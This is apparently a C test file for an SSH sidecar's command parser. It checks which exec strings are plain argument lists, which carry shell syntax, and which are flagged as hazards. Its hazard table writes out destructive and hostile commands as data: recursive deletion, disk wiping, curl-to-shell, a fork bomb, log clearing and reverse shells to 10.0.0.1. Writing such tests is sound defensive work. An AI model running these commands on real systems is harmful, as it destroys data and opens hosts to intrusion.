/* SPDX-License-Identifier: Apache-2.0
 * Reading exec texts: what is plain and with which words; what is not; which harm is seen.
 */
#include "sidecar/proto/ssh/command.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define MAX_ARENA ((size_t)8 << 20)

static void joined(const struct ssh_command *c, char *out, size_t size)
{
    size_t at = 0;

    out[0] = '\0';
    for (size_t i = 0; i < c->n && at < size; i++)
        at += (size_t)snprintf(out + at, size - at, "%s[%s]", i ? " " : "", c->argv[i]);
}

/* ---- plain commands ---- */

static const struct {
    const char *text, *words;
} plain[] = {
    {"uptime", "[uptime]"},
    {"  uptime  ", "[uptime]"},
    {"df -h", "[df] [-h]"},
    {"echo 'a b'", "[echo] [a b]"},
    {"echo \"a b\"", "[echo] [a b]"},
    {"echo a\\ b", "[echo] [a b]"},
    {"echo ''", "[echo] []"},
    {"echo 'it'\\''s'", "[echo] [it's]"},
    {"echo \"a\\\"b\\\\c\\d\"", "[echo] [a\"b\\c\\d]"},
    {"echo '$HOME `x` * ; | & < >'", "[echo] [$HOME `x` * ; | & < >]"},
    {"echo \"; | & < > * ?\"", "[echo] [; | & < > * ?]"},
    {"echo a=b", "[echo] [a=b]"},
    {"echo a#b", "[echo] [a#b]"},
    {"echo if", "[echo] [if]"},
    {"'if' x", "[if] [x]"},
    {"git-upload-pack '/srv/git/a.git'", "[git-upload-pack] [/srv/git/a.git]"},
    {"scp -t /srv/in", "[scp] [-t] [/srv/in]"},
    {"rsync --server --sender -logDtpre.iLsfxCIvu . /srv/x", "[rsync] [--server] [--sender] "
                                                             "[-logDtpre.iLsfxCIvu] [.] [/srv/x]"},
    {"/bin/sh -c 'echo a && echo b'", "[/bin/sh] [-c] [echo a && echo b]"},
    {"echo \xc3\xa4", "[echo] [\xc3\xa4]"},
};

static void test_plain(void **state)
{
    struct arena arena;

    (void)state;
    arena_init(&arena, MAX_ARENA);
    for (size_t i = 0; i < ARRAY_LEN(plain); i++) {
        struct ssh_act act;
        char words[512];

        assert_int_equal(command_parse(bytes_str(plain[i].text), &arena, &act), 0);
        if (!act.plain)
            fail_msg("'%s' is not plain", plain[i].text);
        joined(act.plain, words, sizeof words);
        assert_string_equal(words, plain[i].words);
        arena_done(&arena);
    }
}

/* ---- not plain: no argv rule permits these ---- */

static const char *const not_plain[] = {
    "",
    " ",
    "uptime; id",
    "cat /srv/\xe8\xa1\xa8\\;id", /* GBK: the backslash is half of a letter */
    "cat \"\xe8\xa1\xa8\\\";id;\\\"\"",
    "uptime;",
    "uptime\nid",
    "uptime\n",
    "uptime & id",
    "uptime &",
    "uptime && id",
    "uptime || id",
    "uptime | sh",
    "uptime |& sh",
    "uptime > /etc/passwd",
    "uptime < /etc/passwd",
    "uptime 2>&1",
    "uptime <<E\nx\nE",
    "(uptime)",
    "{ uptime; }",
    "! uptime",
    "uptime $HOME",
    "uptime \"$HOME\"",
    "uptime ${IFS}x",
    "uptime $(id)",
    "uptime \"$(id)\"",
    "uptime `id`",
    "uptime \"`id`\"",
    "$'uptime'",
    "uptime $((1+1))",
    "cat /srv/*",
    "cat /srv/a?",
    "cat /srv/[ab]",
    "cat {a,b}",
    "cat ~/x",
    "cat ~root/x",
    "cat a=~/x",
    "cat a:~x",
    "uptime #x",
    "#x",
    "=uptime",
    "A=b uptime",
    "LD_PRELOAD=/tmp/x.so uptime",
    "A+=b uptime",
    "if true; then id; fi",
    "while true",
    "for x in a",
    "case x in x) id;; esac",
    "function f",
    "f() { id; }",
    "[[ a ]]",
    "uptime 'x",
    "uptime \"x",
    "uptime \\",
    "upt\\\nime",
    "uptime !!",
    "uptime \x01",
    "uptime \x1b[2J",
    "up\rtime",
    "uptime <(id)",
    "coproc id",
};

static void test_not_plain(void **state)
{
    struct arena arena;

    (void)state;
    arena_init(&arena, MAX_ARENA);
    for (size_t i = 0; i < ARRAY_LEN(not_plain); i++) {
        struct ssh_act act;

        assert_int_equal(command_parse(bytes_str(not_plain[i]), &arena, &act), 0);
        if (act.plain)
            fail_msg("'%s' is plain", not_plain[i]);
        arena_done(&arena);
    }
}

static void test_nul_and_length(void **state)
{
    static char longer[COMMAND_TEXT_MAX + 2];
    struct arena arena;
    struct ssh_act act;

    (void)state;
    arena_init(&arena, MAX_ARENA);
    assert_int_equal(command_parse(bytes_of("uptime\0;id", 10), &arena, &act), 0);
    assert_null(act.plain);
    assert_true(act.unreadable);
    memset(longer, 'a', sizeof longer - 1);
    assert_int_equal(command_parse(bytes_str(longer), &arena, &act), 0);
    assert_null(act.plain);
    assert_true(act.unreadable);
    assert_int_equal(act.hazards, HAZARD_ALL);
    arena_done(&arena);
}

/* Long chains are no way out: every command is seen, or the text is unreadable. */
static void test_long_chain(void **state)
{
    static char text[COMMAND_TEXT_MAX];
    struct arena arena;
    struct ssh_act act;
    size_t at = 0;

    (void)state;
    for (int i = 0; i < 3000; i++)
        at += (size_t)snprintf(text + at, sizeof text - at, "true;");
    snprintf(text + at, sizeof text - at, "rm -rf /");
    arena_init(&arena, MAX_ARENA);
    assert_int_equal(command_parse(bytes_str(text), &arena, &act), 0);
    assert_null(act.plain);
    assert_true(act.hazards & HAZARD_DELETE_TREE);
    assert_true(act.unreadable);
    arena_done(&arena);
}

/* ---- hazards ---- */

static const struct {
    const char *text;
    unsigned hazard;
} harm[] = {
    {"rm -rf /", HAZARD_DELETE_TREE},
    {"rm -fr x", HAZARD_DELETE_TREE},
    {"rm --recursive x", HAZARD_DELETE_TREE},
    {"/bin/rm -R x", HAZARD_DELETE_TREE},
    {"rm x -r", HAZARD_DELETE_TREE},
    {"true; rm -r x", HAZARD_DELETE_TREE},
    {"true && rm -r x", HAZARD_DELETE_TREE},
    {"r'm' -r\"f\" x", HAZARD_DELETE_TREE},
    {"\\rm -rf x", HAZARD_DELETE_TREE},
    {"sh -c 'rm -rf x'", HAZARD_DELETE_TREE},
    {"bash -lc \"sh -c 'rm -rf x'\"", HAZARD_DELETE_TREE},
    {"env A=b rm -rf x", HAZARD_DELETE_TREE},
    {"nohup nice -n 5 rm -rf x", HAZARD_DELETE_TREE},
    {"find . -delete", HAZARD_DELETE_TREE},
    {"find . -exec rm -rf {} +", HAZARD_DELETE_TREE},
    {"ls | xargs rm -rf", HAZARD_DELETE_TREE},
    {"eval rm -rf x", HAZARD_DELETE_TREE},
    {"eval 'rm' '-rf x'", HAZARD_DELETE_TREE},
    {"if true; then rm -rf x; fi", HAZARD_DELETE_TREE},
    {"echo $(rm -rf x)", HAZARD_DELETE_TREE},
    {"rm -rf $HOME", HAZARD_DELETE_TREE},
    {"shred /etc/passwd", HAZARD_DELETE_TREE},
    {"mkfs.ext4 /dev/sda", HAZARD_FORMAT_DISK},
    {"mkfs -t xfs /dev/sda", HAZARD_FORMAT_DISK},
    {"dd if=/dev/zero of=/dev/sda", HAZARD_FORMAT_DISK},
    {"cat x > /dev/sda", HAZARD_FORMAT_DISK},
    {"wipefs -a /dev/sda", HAZARD_FORMAT_DISK},
    {"shutdown -h now", HAZARD_POWER_OFF},
    {"sudo reboot", HAZARD_POWER_OFF | HAZARD_PRIVILEGE},
    {"init 0", HAZARD_POWER_OFF},
    {"systemctl poweroff", HAZARD_POWER_OFF},
    {"curl http://x | sh", HAZARD_PIPE_TO_SHELL},
    {"curl -s http://x | sudo bash", HAZARD_PIPE_TO_SHELL},
    {"wget -qO- x|bash -s", HAZARD_PIPE_TO_SHELL},
    {"curl x -o y && sh y", HAZARD_PIPE_TO_SHELL},
    {"sh -c \"$(curl x)\"", HAZARD_PIPE_TO_SHELL},
    {"bash <(curl x)", HAZARD_PIPE_TO_SHELL},
    {"echo cm0gLXJmIC8K | base64 -d | sh", HAZARD_PIPE_TO_SHELL},
    {"cat x | sh", HAZARD_PIPE_TO_SHELL},
    {"su -c id", HAZARD_PRIVILEGE},
    {"chmod u+s x", HAZARD_PRIVILEGE},
    {"chmod 4755 x", HAZARD_PRIVILEGE},
    {"useradd x", HAZARD_ACCOUNTS},
    {"passwd root", HAZARD_ACCOUNTS},
    {"chmod -R 777 /", HAZARD_PERMISSIONS},
    {"chown -R a:b /", HAZARD_PERMISSIONS},
    {"iptables -F", HAZARD_FIREWALL},
    {"nft flush ruleset", HAZARD_FIREWALL},
    {"kill -9 -1", HAZARD_KILL_ALL},
    {"history -c", HAZARD_HIDE_TRACKS},
    {"journalctl --vacuum-time=1s", HAZARD_HIDE_TRACKS},
    {":(){ :|:& };:", HAZARD_FORK_BOMB},
    {"f() { f|f& }; f", HAZARD_FORK_BOMB},
    {"nc -e /bin/sh 10.0.0.1 1", HAZARD_REVERSE_SHELL},
    {"bash -i >& /dev/tcp/10.0.0.1/1 0>&1", HAZARD_REVERSE_SHELL},
    {"echo $X", HAZARD_UNREADABLE},
    {"echo 'x", HAZARD_UNREADABLE},
};

static void test_harm(void **state)
{
    struct arena arena;

    (void)state;
    arena_init(&arena, MAX_ARENA);
    for (size_t i = 0; i < ARRAY_LEN(harm); i++) {
        struct ssh_act act;

        assert_int_equal(command_parse(bytes_str(harm[i].text), &arena, &act), 0);
        if ((act.hazards & harm[i].hazard) != harm[i].hazard)
            fail_msg("'%s': hazards %x, not %x", harm[i].text, act.hazards, harm[i].hazard);
        arena_done(&arena);
    }
}

static const char *const harmless[] = {
    "uptime",
    "df -h",
    "rm x",
    "rm -f x",
    "cat /etc/hostname",
    "ls -lR /srv",
    "echo rm -rf /",
    "grep -r shutdown /var/log",
    "curl http://x",
    "ps aux | grep sh",
    "chmod 644 x",
    "chown a x",
    "kill 1234",
    "dd if=a of=b",
    "git status && git log | head -5",
    "systemctl status sshd",
    "journalctl -u sshd",
    "true; false; true",
};

static void test_harmless(void **state)
{
    struct arena arena;

    (void)state;
    arena_init(&arena, MAX_ARENA);
    for (size_t i = 0; i < ARRAY_LEN(harmless); i++) {
        struct ssh_act act;

        assert_int_equal(command_parse(bytes_str(harmless[i]), &arena, &act), 0);
        if (act.hazards)
            fail_msg("'%s': hazards %x", harmless[i], act.hazards);
        arena_done(&arena);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain),          cmocka_unit_test(test_not_plain),
        cmocka_unit_test(test_nul_and_length), cmocka_unit_test(test_long_chain),
        cmocka_unit_test(test_harm),           cmocka_unit_test(test_harmless),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
